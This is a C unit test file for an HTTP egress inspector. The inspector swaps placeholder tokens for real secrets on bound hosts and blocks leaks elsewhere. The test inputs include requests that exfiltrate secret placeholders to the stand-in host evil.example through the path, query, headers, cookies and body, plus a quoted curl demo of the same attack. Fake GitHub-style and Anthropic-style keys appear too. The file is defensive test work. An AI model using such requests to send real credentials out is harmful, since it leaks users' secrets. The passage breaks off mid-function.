/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <zlib.h>

#include <cmocka.h>

#include "banned.h"
#include "egress/inspect.h"

/*
 * The HTTP/1.1 inspector (src/egress/inspect.c) over real leak sets: every
 * exchange is fed whole and again one byte at a time.
 */

#define VALUE "ghp_S3cretValue1234567890abcdef"
#define PH "tkbox_GH_0123456789abcdef0123456789abcdef"
#define VALUE2 "sk-ant-Other9876543210zyxwvu"
#define PH2 "tkbox_AK_fedcba9876543210fedcba9876543210"

static struct egress_secret secrets[2];
static struct egress_leak_set *leak;

static void make_secret(struct egress_secret *s, const char *name, const char *value, const char *ph,
			const char *header, const char *host)
{
	memset(s, 0, sizeof(*s));
	(void)snprintf(s->name, sizeof(s->name), "%s", name);
	(void)snprintf(s->placeholder, sizeof(s->placeholder), "%s", ph);
	(void)snprintf(s->header, sizeof(s->header), "%s", header);
	(void)snprintf(s->hosts[0], sizeof(s->hosts[0]), "%s", host);
	s->n_hosts = 1;
	s->value = (uint8_t *)strdup(value);
	s->value_len = strlen(value);
}

static int setup(void **state)
{
	(void)state;
	make_secret(&secrets[0], "GH", VALUE, PH, "Authorization", "api.github.com");
	make_secret(&secrets[1], "AK", VALUE2, PH2, "x-api-key", "api.anthropic.com");
	return egress_leak_set_new(secrets, 2, &leak);
}

static int teardown(void **state)
{
	(void)state;
	egress_leak_set_free(leak);
	free(secrets[0].value);
	free(secrets[1].value);
	return 0;
}

/* ---- a test connection ---- */

struct conn {
	struct egress_insp *h;
	struct buf up, down; /* what went to the origin, to the box */
	struct egress_insp_event ev[64];
	size_t n_ev;
	int use_ok; /* 1 answer uses ok, 0 refuse them, -1 leave them waiting */
	size_t uses;
};

static void conn_open(struct conn *c, const char *host, uint16_t port, bool tunnel, bool model)
{
	struct egress_insp_config cfg = {
		.host = host,
		.port = port,
		.tunnel = tunnel,
		.model = model,
		.secrets = secrets,
		.n_secrets = 2,
		.leak = leak,
	};

	memset(c, 0, sizeof(*c));
	c->use_ok = 1;
	assert_int_equal(egress_insp_new(&cfg, &c->h), 0);
	assert_int_equal(buf_init(&c->up, (size_t)8 << 20, BUF_SECRET), 0);
	assert_int_equal(buf_init(&c->down, (size_t)8 << 20, BUF_SECRET), 0);
}

static void conn_close(struct conn *c)
{
	egress_insp_free(c->h);
	buf_release(&c->up);
	buf_release(&c->down);
}

static void drain_events(struct conn *c)
{
	struct egress_insp_event e;

	while (egress_insp_event(c->h, &e) == 1) {
		assert_true(c->n_ev < ARRAY_SIZE(c->ev));
		c->ev[c->n_ev++] = e;
		if (e.type == EGRESS_INSP_USE) {
			c->uses++;
		}
	}
}

/* The box sends s[0..n) in pieces of split bytes (0: whole). The first error, or 0. */
static int box_send(struct conn *c, const void *s, size_t n, size_t split)
{
	const uint8_t *p = s;
	size_t off = 0, stuck = 0;

	while (off < n || egress_insp_waiting(c->h)) {
		size_t k = split ? MIN(split, n - off) : n - off, used = 0;
		int r = egress_insp_request(c->h, p + off, k, &used, &c->up);
		drain_events(c);
		if (r < 0) {
			return r;
		}
		off += used;
		if (egress_insp_waiting(c->h)) {
			if (c->use_ok < 0) {
				return 0;
			}
			while (egress_insp_waiting(c->h)) {
				egress_insp_use_done(c->h, c->use_ok == 1);
			}
			continue;
		}
		if (used == 0 && ++stuck > 2) {
			return -EAGAIN; /* not taken: the pipeline is full */
		}
	}
	/* A last call sends what a finished swap released. */
	size_t used;
	int r = egress_insp_request(c->h, NULL, 0, &used, &c->up);
	drain_events(c);
	return r;
}

static int box_send_str(struct conn *c, const char *s, size_t split)
{
	return box_send(c, s, strlen(s), split);
}

static int origin_send(struct conn *c, const void *s, size_t n, size_t split)
{
	const uint8_t *p = s;
	size_t off = 0, stuck = 0;

	while (off < n) {
		size_t k = split ? MIN(split, n - off) : n - off, used = 0;
		int r = egress_insp_response(c->h, p + off, k, &used, &c->down);
		drain_events(c);
		if (r < 0) {
			return r;
		}
		off += used;
		if (used == 0 && ++stuck > 1000) {
			return -EAGAIN;
		}
	}
	size_t used;
	int r = egress_insp_response(c->h, NULL, 0, &used, &c->down);
	drain_events(c);
	return r;
}

static int origin_send_str(struct conn *c, const char *s, size_t split)
{
	return origin_send(c, s, strlen(s), split);
}

static bool has(const struct buf *b, const char *s)
{
	return memmem(buf_ptr(b), buf_len(b), s, strlen(s)) != NULL;
}

static bool has_ci(const uint8_t *p, size_t n, const char *s)
{
	size_t k = strlen(s);
	for (size_t i = 0; i + k <= n; i++) {
		if (strncasecmp((const char *)p + i, s, k) == 0) {
			return true;
		}
	}
	return false;
}

static const size_t splits[] = { 0, 1, 7 };

/* ---- the value's forms, as a bound host might echo them ---- */

static void form_hex(const char *v, char *out)
{
	for (size_t i = 0; v[i]; i++) {
		(void)snprintf(out + 2 * i, 3, "%02x", (unsigned char)v[i]);
	}
}

static void form_pct(const char *v, char *out)
{
	for (size_t i = 0; v[i]; i++) {
		(void)snprintf(out + 3 * i, 4, "%%%02X", (unsigned char)v[i]);
	}
}

static void form_json(const char *v, char *out)
{
	for (size_t i = 0; v[i]; i++) {
		(void)snprintf(out + 6 * i, 7, "\\u%04x", (unsigned char)v[i]);
	}
}

static void form_b64(const char *v, char *out)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t n = strlen(v), o = 0;
	const uint8_t *u = (const uint8_t *)v;

	for (size_t i = 0; i < n; i += 3) {
		uint32_t x =
			(uint32_t)u[i] << 16 | (i + 1 < n ? (uint32_t)u[i + 1] << 8 : 0) | (i + 2 < n ? u[i + 2] : 0);
		out[o++] = a[x >> 18 & 63];
		out[o++] = a[x >> 12 & 63];
		out[o++] = i + 1 < n ? a[x >> 6 & 63] : '=';
		out[o++] = i + 2 < n ? a[x & 63] : '=';
	}
	out[o] = '\0';
}

/* The value in none of its forms (the base64 text's first 24 characters: those the value alone fixes). */
static void assert_no_value(const uint8_t *p, size_t n)
{
	char f[512];

	assert_false(has_ci(p, n, VALUE));
	assert_null(memmem(p, n, VALUE, 6));
	form_hex(VALUE, f);
	assert_false(has_ci(p, n, f));
	form_pct(VALUE, f);
	assert_false(has_ci(p, n, f));
	form_json(VALUE, f);
	assert_false(has_ci(p, n, f));
	form_b64(VALUE, f);
	f[24] = '\0';
	assert_null(memmem(p, n, f, 24));
}

struct leak_case {
	const char *name;
	const char *req;
};

static void run_leak(const char *host, bool tunnel, const struct leak_case *lc);

/* ---- swapping ---- */

static const char REQ_SWAP[] = "GET /user?x=1 HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer " PH
			       "\r\nAccept-Encoding: gzip, br\r\n\r\n";

static void test_swap_waits_for_use(void **state)
{
	(void)state;
	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		conn_open(&c, "api.github.com", 443, true, false);
		c.use_ok = -1;
		assert_int_equal(box_send_str(&c, REQ_SWAP, splits[s]), 0);
		/* Nothing goes before the use is recorded. */
		assert_true(egress_insp_waiting(c.h));
		assert_int_equal(buf_len(&c.up), 0);
		assert_int_equal(c.n_ev, 1);
		assert_int_equal(c.ev[0].type, EGRESS_INSP_USE);
		assert_int_equal(c.ev[0].secret, 0);
		egress_insp_use_done(c.h, true);
		assert_false(egress_insp_waiting(c.h));
		assert_int_equal(box_send(&c, "", 0, 0), 0);
		assert_true(has(&c.up, "GET /user?x=1 HTTP/1.1\r\n"));
		assert_true(has(&c.up, "\r\nAuthorization: Bearer " VALUE "\r\n"));
		assert_false(has(&c.up, PH));
		/* A bound host is asked for unencoded responses. */
		assert_true(has(&c.up, "\r\nAccept-Encoding: identity\r\n"));
		assert_false(has(&c.up, "br"));
		conn_close(&c);
	}
}

static void test_swap_refused(void **state)
{
	(void)state;
	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		conn_open(&c, "api.github.com", 443, true, false);
		c.use_ok = 0;
		assert_int_equal(box_send_str(&c, REQ_SWAP, splits[s]), -EACCES);
		assert_int_equal(buf_len(&c.up), 0);
		assert_string_equal(egress_insp_refusal(c.h)->rule, "swap-refused");
		assert_int_equal(egress_insp_refusal(c.h)->status, 503);
		assert_non_null(strstr(egress_insp_refusal(c.h)->message, "secret GH"));
		conn_close(&c);
	}
}

/* The bound header's name in any case; two secrets bound here with their own headers. */
static void test_swap_only_bound(void **state)
{
	struct conn c;
	(void)state;

	/* Another host: a secret not bound here is a leak even in its header. */
	conn_open(&c, "evil.example", 443, true, false);
	assert_int_equal(
		box_send_str(&c, "GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " PH "\r\n\r\n", 0),
		-EACCES);
	assert_int_equal(buf_len(&c.up), 0);
	assert_int_equal(c.uses, 0);
	assert_int_equal(c.n_ev, 1);
	assert_int_equal(c.ev[0].type, EGRESS_INSP_LEAK);
	assert_int_equal(c.ev[0].secret, 0);
	assert_non_null(strstr(c.ev[0].reason, "header Authorization"));
	assert_string_equal(egress_insp_refusal(c.h)->rule, "secret-leak");
	assert_int_equal(egress_insp_refusal(c.h)->status, 403);
	assert_non_null(strstr(egress_insp_refusal(c.h)->message, "tkbox run --secret GH=...@evil.example"));
	assert_null(strstr(egress_insp_refusal(c.h)->message, VALUE));
	conn_close(&c);

	/* The same header over plain HTTP to the bound host: no swap. */
	conn_open(&c, "api.github.com", 80, false, false);
	assert_int_equal(box_send_str(&c,
				      "GET http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\n"
				      "Authorization: Bearer " PH "\r\n\r\n",
				      0),
			 -EACCES);
	assert_int_equal(c.uses, 0);
	assert_int_equal(buf_len(&c.up), 0);
	assert_non_null(strstr(egress_insp_refusal(c.h)->message, "HTTPS"));
	conn_close(&c);

	/* Another secret's placeholder in the bound header: a leak. */
	conn_open(&c, "api.github.com", 443, true, false);
	assert_int_equal(box_send_str(&c,
				      "GET / HTTP/1.1\r\nHost: api.github.com\r\nauthorization: Bearer " PH " " PH2
				      "\r\n\r\n",
				      0),
			 -EACCES);
	assert_int_equal(buf_len(&c.up), 0);
	assert_int_equal(c.ev[c.n_ev - 1].type, EGRESS_INSP_LEAK);
	assert_int_equal(c.ev[c.n_ev - 1].secret, 1);
	conn_close(&c);

	/* The same three at every split. */
	static const struct leak_case elsewhere = { "not bound",
						    "GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " PH
						    "\r\n\r\n" };
	static const struct leak_case plain = {
		"plain",
		"GET http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer " PH "\r\n\r\n"
	};
	static const struct leak_case other = { "other",
						"GET / HTTP/1.1\r\nHost: api.github.com\r\nauthorization: Bearer " PH
						" " PH2 "\r\n\r\n" };
	run_leak("evil.example", true, &elsewhere);
	run_leak("api.github.com", false, &plain);
	run_leak("api.github.com", true, &other);

	/* Each bound secret in its own header, both waited for. */
	conn_open(&c, "api.github.com", 443, true, false);
	secrets[1].n_hosts = 2;
	(void)snprintf(secrets[1].hosts[1], sizeof(secrets[1].hosts[1]), "api.github.com");
	egress_insp_free(c.h);
	{
		struct egress_insp_config cfg = { .host = "api.github.com",
						  .port = 443,
						  .tunnel = true,
						  .secrets = secrets,
						  .n_secrets = 2,
						  .leak = leak };
		assert_int_equal(egress_insp_new(&cfg, &c.h), 0);
	}
	c.use_ok = 1;
	assert_int_equal(box_send_str(&c,
				      "POST /a HTTP/1.1\r\nHost: api.github.com:443\r\nX-Api-Key: " PH2
				      "\r\nAuthorization: token " PH "\r\nContent-Length: 2\r\n\r\nok",
				      1),
			 0);
	assert_int_equal(c.uses, 2);
	assert_true(has(&c.up, "X-Api-Key: " VALUE2 "\r\n"));
	assert_true(has(&c.up, "Authorization: token " VALUE "\r\n"));
	assert_true(has(&c.up, "\r\n\r\nok"));
	secrets[1].n_hosts = 1;
	conn_close(&c);
}

/* Two uses wait; the first refused ends the wait at once, and the request is refused naming it. */
static void test_swap_refused_two(void **state)
{
	struct egress_insp_config cfg = {
		.host = "api.github.com", .port = 443, .tunnel = true, .secrets = secrets, .n_secrets = 2, .leak = leak
	};
	struct conn c;
	(void)state;

	conn_open(&c, "api.github.com", 443, true, false);
	egress_insp_free(c.h);
	secrets[1].n_hosts = 2;
	(void)snprintf(secrets[1].hosts[1], sizeof(secrets[1].hosts[1]), "api.github.com");
	assert_int_equal(egress_insp_new(&cfg, &c.h), 0);
	c.use_ok = -1;
	assert_int_equal(box_send_str(&c,
				      "GET / HTTP/1.1\r\nHost: api.github.com\r\nX-Api-Key: " PH2
				      "\r\nAuthorization: " PH "\r\n\r\n",
				      0),
			 0);
	assert_int_equal(c.uses, 2);
	assert_true(egress_insp_waiting(c.h));
	egress_insp_use_done(c.h, false);
	assert_false(egress_insp_waiting(c.h));
	assert_int_equal(egress_insp_request(c.h, NULL, 0, &(size_t){ 0 }, &c.up), -EACCES);
	assert_string_equal(egress_insp_refusal(c.h)->rule, "swap-refused");
	assert_non_null(strstr(egress_insp_refusal(c.h)->message, c.ev[0].secret == 0 ? "secret GH" : "secret AK"));
	assert_int_equal(buf_len(&c.up), 0);
	secrets[1].n_hosts = 1;
	conn_close(&c);
}

/* ---- leaks ---- */

static void run_leak(const char *host, bool tunnel, const struct leak_case *lc)
{
	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		int r;
		conn_open(&c, host, tunnel ? 443 : 80, tunnel, false);
		r = box_send_str(&c, lc->req, splits[s]);
		if (r != -EACCES || strcmp(egress_insp_refusal(c.h)->rule, "secret-leak") != 0) {
			print_error("case %s split %zu: %d %s\n", lc->name, splits[s], r,
				    egress_insp_refusal(c.h)->message);
		}
		assert_int_equal(r, -EACCES);
		assert_string_equal(egress_insp_refusal(c.h)->rule, "secret-leak");
		assert_int_equal(c.ev[c.n_ev - 1].type, EGRESS_INSP_LEAK);
		assert_int_equal(c.uses, 0);
		/* What went holds no whole placeholder or value. */
		assert_false(has_ci(buf_ptr(&c.up), buf_len(&c.up), PH));
		assert_no_value(buf_ptr(&c.up), buf_len(&c.up));
		assert_null(strstr(egress_insp_refusal(c.h)->message, VALUE));
		assert_null(strstr(c.ev[c.n_ev - 1].reason, VALUE));
		assert_int_equal(egress_insp_request(c.h, (const uint8_t *)"x", 1, &(size_t){ 0 }, &c.up), -EACCES);
		conn_close(&c);
	}
}

#define H_T "Host: api.github.com\r\n"
#define H_E "Host: evil.example\r\n"

static void test_leaks_tunnel(void **state)
{
	char req[4096], f[512];
	static const struct leak_case cases[] = {
		{ "path", "GET /" PH " HTTP/1.1\r\n" H_T "\r\n" },
		{ "query", "GET /x?t=" PH " HTTP/1.1\r\n" H_T "\r\n" },
		{ "other header", "GET / HTTP/1.1\r\n" H_T "X-Token: " PH "\r\n\r\n" },
		{ "header lower case",
		  "GET / HTTP/1.1\r\n" H_T "X-Token: TKBOX_GH_0123456789ABCDEF0123456789ABCDEF\r\n\r\n" },
		{ "cookie", "GET / HTTP/1.1\r\n" H_T "Cookie: a=b; t=" PH "\r\n\r\n" },
		{ "value in bound header", "GET / HTTP/1.1\r\n" H_T "Authorization: Bearer " VALUE "\r\n\r\n" },
		{ "body", "POST / HTTP/1.1\r\n" H_T "Content-Length: 49\r\n\r\n{\"t\":\"" PH "\"}" },
		{ "chunked split", "POST / HTTP/1.1\r\n" H_T "Transfer-Encoding: chunked\r\n\r\n"
				   "10\r\nxxxxxtkbox_GH_01\r\n1e\r\n23456789abcdef0123456789abcdef\r\n0\r\n\r\n" },
		{ "trailer", "POST / HTTP/1.1\r\n" H_T "Transfer-Encoding: chunked\r\n\r\n"
			     "2\r\nok\r\n0\r\nX-T: " PH "\r\n\r\n" },
		{ "value in body", "POST / HTTP/1.1\r\n" H_T "Content-Length: 40\r\n\r\nxxxxx" VALUE "xxxx" },
	};
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		run_leak("api.github.com", true, &cases[i]);
	}
	/* The value's encodings in a body, and a percent-encoded placeholder in the query. */
	const char *forms[] = { "hex", "pct", "json", "b64" };
	for (size_t k = 0; k < ARRAY_SIZE(forms); k++) {
		struct leak_case lc = { forms[k], req };
		if (k == 0) {
			form_hex(VALUE, f);
		} else if (k == 1) {
			form_pct(VALUE, f);
		} else if (k == 2) {
			form_json(VALUE, f);
		} else {
			form_b64(VALUE, f);
		}
		(void)snprintf(req, sizeof(req), "POST / HTTP/1.1\r\n" H_T "Content-Length: %zu\r\n\r\n%s..",
			       strlen(f) + 2, f);
		run_leak("api.github.com", true, &lc);
	}
	form_pct(PH, f);
	(void)snprintf(req, sizeof(req), "GET /?q=%s HTTP/1.1\r\n" H_T "\r\n", f);
	struct leak_case lc = { "pct query", req };
	run_leak("api.github.com", true, &lc);
}

static void test_leaks_plain(void **state)
{
	static const struct leak_case cases[] = {
		/* The reference demo: curl -H "Authorization: Bearer $GH" http://evil.example/ */
		{ "demo", "GET http://evil.example/ HTTP/1.1\r\n" H_E "Authorization: Bearer " PH "\r\n\r\n" },
		{ "query", "GET http://evil.example/?k=" PH " HTTP/1.1\r\n" H_E "\r\n" },
		{ "body", "PUT http://evil.example/ HTTP/1.1\r\n" H_E "Content-Length: 45\r\n\r\n" PH "...." },
	};
	(void)state;

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		run_leak("evil.example", false, &cases[i]);
	}
}

/* A body that only looks close goes whole, with its length. */
static void test_body_clean(void **state)
{
	static const char req[] = "POST /up HTTP/1.1\r\n" H_T "Transfer-Encoding: chunked\r\n\r\n"
				  "5;ext=1\r\nhello\r\n6\r\n tkbox\r\n0\r\nX-Sum: 1\r\n\r\n";
	(void)state;

	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		conn_open(&c, "api.github.com", 443, true, false);
		assert_int_equal(box_send_str(&c, req, splits[s]), 0);
		/* Decoded for the scan, chunked again (no extensions), trailers kept. */
		const uint8_t *p = buf_ptr(&c.up);
		const uint8_t *body = memmem(p, buf_len(&c.up), "\r\n\r\n", 4) + 4;
		size_t bn = buf_len(&c.up) - (size_t)(body - p);
		char dec[64];
		size_t dn = 0, at = 0;
		for (;;) {
			unsigned long k = strtoul((const char *)body + at, NULL, 16);
			at = (size_t)((const uint8_t *)memmem(body + at, bn - at, "\r\n", 2) - body) + 2;
			if (k == 0) {
				break;
			}
			memcpy(dec + dn, body + at, k);
			dn += k;
			at += k + 2;
		}
		assert_int_equal(dn, 11);
		assert_memory_equal(dec, "hello tkbox", 11);
		assert_memory_equal(body + at, "X-Sum: 1\r\n\r\n", 12);
		assert_int_equal(bn - at, 12);
		assert_false(has(&c.up, "ext=1"));
		conn_close(&c);
	}
}

/* ---- request rules ---- */

static void expect_refusal(const char *host, bool tunnel, const char *req, const char *rule, int status)
{
	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		conn_open(&c, host, tunnel ? 443 : 80, tunnel, false);
		assert_int_equal(box_send_str(&c, req, splits[s]), -EACCES);
		assert_string_equal(egress_insp_refusal(c.h)->rule, rule);
		assert_int_equal(egress_insp_refusal(c.h)->status, status);
		assert_int_equal(buf_len(&c.up), 0);
		assert_int_equal(c.uses, 0);
		conn_close(&c);
	}
}

static void test_request_rules(void **state)
{
	(void)state;
	/* F3: an opaque or absolute target inside a tunnel cannot carry a swapped secret elsewhere. */
	expect_refusal("api.github.com", true,
		       "GET https://evil.example/ HTTP/1.1\r\n" H_T "Authorization: Bearer " PH "\r\n\r\n",
		       "request-target", 403);
	expect_refusal("api.github.com", true,
		       "GET http://api.github.com/ HTTP/1.1\r\n" H_T "Authorization: Bearer " PH "\r\n\r\n",
		       "request-target", 403);
	expect_refusal("api.github.com", true, "GET evil.example:443 HTTP/1.1\r\n" H_T "\r\n", "request-target", 403);
	expect_refusal("api.github.com", true, "GET * HTTP/1.1\r\n" H_T "\r\n", "request-target", 403);
	/* Host names the tunnel's host and port. */
	expect_refusal("api.github.com", true,
		       "GET / HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " PH "\r\n\r\n", "host-mismatch",
		       403);
	expect_refusal("api.github.com", true, "GET / HTTP/1.1\r\nHost: api.github.com:8443\r\n\r\n", "host-mismatch",
		       403);
	expect_refusal("api.github.com", true, "GET / HTTP/1.1\r\n\r\n", "malformed-request", 400);
	expect_refusal("api.github.com", true, "GET / HTTP/1.1\r\n" H_T H_T "\r\n", "malformed-request", 400);
	expect_refusal("evil.example", false, "GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\n\r\n",
		       "host-mismatch", 403);
	expect_refusal("api.github.com", true,
		       "GET / HTTP/1.1\r\n" H_T "Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n", "upgrade", 403);
	expect_refusal("api.github.com", true, "GET / HTTP/1.1\r\n" H_T "Upgrade: h2c\r\n\r\n", "upgrade", 403);
	expect_refusal("api.github.com", true, "GET / HTTP/1.1\r\n" H_T "Connection: keep-alive, upgrade\r\n\r\n",
		       "upgrade", 403);
	expect_refusal("api.github.com", true,
		       "POST / HTTP/1.1\r\n" H_T "Content-Encoding: gzip\r\nContent-Length: 3\r\n\r\nabc",
		       "request-encoding", 403);
	expect_refusal("api.github.com", true, "GET / HTTP/1.0\r\n" H_T "\r\n", "malformed-request", 400);
	expect_refusal("api.github.com", true, "GET / HTTP/1.1\r\n" H_T "X: a\nY: b\r\n\r\n", "malformed-request", 400);
	expect_refusal("api.github.com", true, "GET / HTTP/1.1\r\n" H_T " folded\r\n\r\n", "malformed-request", 400);
	expect_refusal("api.github.com", true,
		       "POST / HTTP/1.1\r\n" H_T "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n",
		       "malformed-request", 400);
	/* A box that ends inside a request. */
	struct conn c;
	conn_open(&c, "api.github.com", 443, true, false);
	assert_int_equal(box_send_str(&c, "POST / HTTP/1.1\r\n" H_T "Content-Length: 9\r\n\r\nabc", 0), 0);
	assert_int_equal(egress_insp_request_eof(c.h), -EACCES);
	conn_close(&c);
	conn_open(&c, "api.github.com", 443, true, false);
	assert_int_equal(egress_insp_request_eof(c.h), 0);
	conn_close(&c);
}

/* Accept-Encoding where no secret is bound (inspect all): only codings the proxy reads. */
static void test_accept_encoding(void **state)
{
	struct conn c;
	(void)state;

	conn_open(&c, "pypi.example", 443, true, false);
	assert_int_equal(box_send_str(&c,
				      "GET / HTTP/1.1\r\nHost: pypi.example\r\nAccept-Encoding: br, gzip;q=0.8, zstd, "
				      "deflate\r\n\r\n",
				      1),
			 0);
	assert_true(has(&c.up, "\r\nAccept-Encoding: gzip;q=0.8, deflate\r\n"));
	conn_close(&c);
	conn_open(&c, "pypi.example", 443, true, false);
	assert_int_equal(box_send_str(&c, "GET / HTTP/1.1\r\nHost: pypi.example\r\nAccept-Encoding: br\r\n\r\n", 0), 0);
	assert_true(has(&c.up, "\r\nAccept-Encoding: identity\r\n"));
	conn_close(&c);
}

/* Absolute form: origin form, Connection: close, hop-by-hop dropped, nothing after the first body. */
static void test_absolute(void **state)
{
	static const char req[] = "POST http://evil.example/p?q=1 HTTP/1.1\r\n" H_E "Proxy-Connection: keep-alive\r\n"
				  "Content-Length: 4\r\n\r\nbody"
				  "GET http://evil.example/second HTTP/1.1\r\n" H_E "\r\n";
	(void)state;

	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		conn_open(&c, "evil.example", 80, false, false);
		assert_int_equal(box_send_str(&c, req, splits[s]), 0);
		assert_true(has(&c.up, "POST /p?q=1 HTTP/1.1\r\n"));
		assert_true(has(&c.up, "\r\nConnection: close\r\n"));
		assert_false(has(&c.up, "Proxy-Connection"));
		assert_false(has(&c.up, "second"));
		const uint8_t *p = buf_ptr(&c.up);
		assert_memory_equal(p + buf_len(&c.up) - 8, "\r\n\r\nbody", 8);
		assert_int_equal(origin_send_str(&c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi", splits[s]), 0);
		assert_true(egress_insp_done(c.h));
		assert_true(has(&c.down, "\r\n\r\nhi"));
		conn_close(&c);
	}
}

/* ---- responses ---- */

/* A clean GET to the bound host, its use done. */
static void open_get(struct conn *c, const char *method)
{
	char req[256];

	conn_open(c, "api.github.com", 443, true, false);
	(void)snprintf(req, sizeof(req), "%s /r HTTP/1.1\r\n" H_T "Authorization: Bearer " PH "\r\n\r\n", method);
	assert_int_equal(box_send_str(c, req, 0), 0);
	assert_int_equal(c->uses, 1);
}

/* The body of the box's response: de-chunked when chunked, inflated when coded. */
static size_t box_body(const struct conn *c, bool chunked, int zbits, uint8_t *out, size_t max)
{
	const uint8_t *p = buf_ptr(&c->down), *b = memmem(p, buf_len(&c->down), "\r\n\r\n", 4) + 4;
	size_t bn = buf_len(&c->down) - (size_t)(b - p), n = 0;
	uint8_t *raw = malloc(bn + 1);

	if (chunked) {
		size_t at = 0;
		for (;;) {
			unsigned long k = strtoul((const char *)b + at, NULL, 16);
			at = (size_t)((const uint8_t *)memmem(b + at, bn - at, "\r\n", 2) - b) + 2;
			if (k == 0) {
				break;
			}
			memcpy(raw + n, b + at, k);
			n += k;
			at += k + 2;
		}
	} else {
		memcpy(raw, b, bn);
		n = bn;
	}
	if (zbits) {
		z_stream z = { 0 };
		assert_int_equal(inflateInit2(&z, zbits), Z_OK);
		z.next_in = raw;
		z.avail_in = (uInt)n;
		z.next_out = out;
		z.avail_out = (uInt)max;
		assert_int_equal(inflate(&z, Z_FINISH), Z_STREAM_END);
		n = max - z.avail_out;
		(void)inflateEnd(&z);
	} else {
		memcpy(out, raw, n);
	}
	free(raw);
	return n;
}

/* Every form of the value, as an origin echoes it. */
static size_t echo_body(char *out)
{
	char f[512];
	size_t n = 0;

	n += (size_t)snprintf(out + n, 4096 - n, "raw %s upper ", VALUE);
	for (const char *v = VALUE; *v; v++) {
		out[n++] = (char)(*v >= 'a' && *v <= 'z' ? *v - 32 : *v);
	}
	form_hex(VALUE, f);
	n += (size_t)snprintf(out + n, 4096 - n, " hex %s", f);
	form_pct(VALUE, f);
	n += (size_t)snprintf(out + n, 4096 - n, " pct %s", f);
	form_json(VALUE, f);
	n += (size_t)snprintf(out + n, 4096 - n, " json \"%s\"", f);
	form_b64(VALUE, f);
	n += (size_t)snprintf(out + n, 4096 - n, " b64 %s end", f);
	return n;
}

static size_t zcompress(const char *in, size_t n, int bits, uint8_t *out, size_t max)
{
	z_stream z = { 0 };

	assert_int_equal(deflateInit2(&z, 6, Z_DEFLATED, bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (Bytef *)(uintptr_t)in;
	z.avail_in = (uInt)n;
	z.next_out = out;
	z.avail_out = (uInt)max;
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	n = max - z.avail_out;
	(void)deflateEnd(&z);
	return n;
}

static void chunk_encode(const uint8_t *p, size_t n, size_t piece, const char *trailer, uint8_t *out, size_t *ret)
{
	size_t o = 0;
	for (size_t i = 0; i < n; i += piece) {
		size_t k = MIN(piece, n - i);
		o += (size_t)snprintf((char *)out + o, 32, "%zx\r\n", k);
		memcpy(out + o, p + i, k);
		o += k;
		memcpy(out + o, "\r\n", 2);
		o += 2;
	}
	o += (size_t)snprintf((char *)out + o, 1024, "0\r\n%s\r\n", trailer);
	*ret = o;
}

enum { F_CL, F_CHUNKED, F_CLOSE };

static void check_redaction(int framing, const char *coding, int zbits_in, int zbits_out)
{
	char echo[4096];
	uint8_t coded[8192], body[16384], head[8192], got[8192];
	size_t en = echo_body(echo), cn = en, bn, hn;
	char trailer[512], tf[128];

	form_hex(VALUE, tf);
	(void)snprintf(trailer, sizeof(trailer), "X-Echo: %s\r\nX-Raw: " VALUE "\r\n", tf);
	if (coding) {
		cn = zcompress(echo, en, zbits_in, coded, sizeof(coded));
	} else {
		memcpy(coded, echo, en);
	}
	if (framing == F_CHUNKED) {
		chunk_encode(coded, cn, 5, trailer, body, &bn);
	} else {
		memcpy(body, coded, cn);
		bn = cn;
	}
	hn = (size_t)snprintf((char *)head, sizeof(head),
			      "HTTP/1.1 200 OK\r\nX-Echo: " VALUE "\r\nSet-Cookie: t=%s\r\n%s%s%s%s\r\n", tf,
			      coding ? "Content-Encoding: " : "", coding ? coding : "", coding ? "\r\n" : "",
			      framing == F_CHUNKED ? "Transfer-Encoding: chunked\r\n"
			      : framing == F_CL	   ? ""
						   : "Connection: close\r\n");
	if (framing == F_CL) {
		hn -= 2;
		hn += (size_t)snprintf((char *)head + hn, 64, "Content-Length: %zu\r\n\r\n", bn);
	}
	memcpy(head + hn, body, bn);
	hn += bn;
	for (size_t s = 0; s < ARRAY_SIZE(splits); s++) {
		struct conn c;
		open_get(&c, "GET");
		assert_int_equal(origin_send(&c, head, hn, splits[s]), 0);
		if (framing == F_CLOSE) {
			assert_int_equal(egress_insp_response_eof(c.h, &c.down), 0);
		}
		assert_true(egress_insp_done(c.h) == (framing == F_CLOSE));
		/* The value reaches the box in none of its forms, anywhere. */
		assert_no_value(buf_ptr(&c.down), buf_len(&c.down));
		assert_true(has(&c.down, "HTTP/1.1 200 OK\r\n"));
		bool chunked = framing == F_CHUNKED || (coding && framing == F_CL);
		size_t gn = box_body(&c, chunked, coding ? zbits_out : 0, got, sizeof(got));
		/* Redaction keeps the decoded length. */
		assert_int_equal(gn, en);
		assert_no_value(got, gn);
		assert_memory_equal(got, "raw ", 4);
		assert_memory_equal(got + gn - 4, " end", 4);
		if (framing == F_CHUNKED) {
			assert_true(has(&c.down, "X-Echo: "));
			assert_false(has(&c.down, tf));
		}
		if (coding && framing == F_CL) {
			assert_false(has(&c.down, "Content-Length"));
